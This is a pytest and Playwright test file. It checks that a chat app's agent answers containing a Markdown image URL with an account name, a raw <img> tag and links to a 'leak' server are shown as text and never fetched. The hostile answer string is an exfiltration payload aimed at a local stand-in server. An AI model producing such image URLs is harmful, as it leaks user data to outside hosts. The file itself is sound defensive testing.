"""A model's answer that tries to make the browser fetch a URL (a Markdown image carrying an account name,
a raw <img>) shows as text in the real app in Chromium: no <img> with that address is in the page and
the address never receives a request.

The app runs with its agent pointed at the fake OpenAI server (tests/agent/fake_openai.py) on 127.0.0.1,
which answers every request with the hostile text; a second tiny server records whatever reaches it.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from agent.fake_openai import FakeOpenAI, Reply
from app.served import PASSWORDS, book, served_app

playwright = pytest.importorskip("playwright.sync_api")

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
QUESTION = "Tell me a story about our customers, with a picture"  # nothing the rules can plan: the agent answers


class Recorder:
    """An HTTP server on 127.0.0.1 that answers 200 to anything and keeps each path asked for."""

    def __init__(self):
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                recorder.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


def test_a_markdown_image_or_raw_img_from_the_model_is_never_fetched(demo_warehouse_path, monkeypatch):
    said: dict[str, str] = {}
    with Recorder() as leak, FakeOpenAI([lambda body: Reply(said["text"]) for _ in range(8)]) as fake:
        for name, value in fake.env().items():
            monkeypatch.setenv(name, value)
        with served_app(demo_warehouse_path) as (context, url), playwright.sync_playwright() as p:
            account = sorted(book(context, "C005"))[0]
            said["text"] = (f"Here is the chart: ![chart]({leak.url}/leak?d={account}) and a raw "
                            f"<img src={leak.url}/leak2> and [a link]({leak.url}/leak3) and <{leak.url}/leak4>")
            browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
            try:
                page = browser.new_page()
                page.set_default_timeout(30_000)
                page.goto(url)
                page.get_by_label("username").fill("leila")
                page.get_by_label("password").fill(PASSWORDS["leila"])
                page.get_by_role("button", name="Login").click()
                page.get_by_text("Signed in as").wait_for()
                page.locator("#question textarea").fill(QUESTION)
                page.locator("#question textarea").press("Enter")
                page.wait_for_function("document.querySelectorAll('#chat .answer-label').length > 0")
                page.locator("#chat").get_by_text("Here is the chart", exact=False).first.wait_for()
                page.wait_for_timeout(1_000)  # time for any fetch the page would make
                sources = page.locator("img").evaluate_all("els => els.map(e => e.src)")
                links = page.locator("#chat a").evaluate_all("els => els.map(e => e.href)")
                shown = page.locator("#chat").inner_text()
            finally:
                browser.close()
        assert fake.requests, "the agent was never asked: the test did not exercise the model's text"
    assert not [s for s in sources if leak.url in s]
    assert not [h for h in links if leak.url in h]
    assert f"![chart]({leak.url}/leak?d={account})" in shown and f"<img src={leak.url}/leak2>" in shown
    assert leak.paths == []
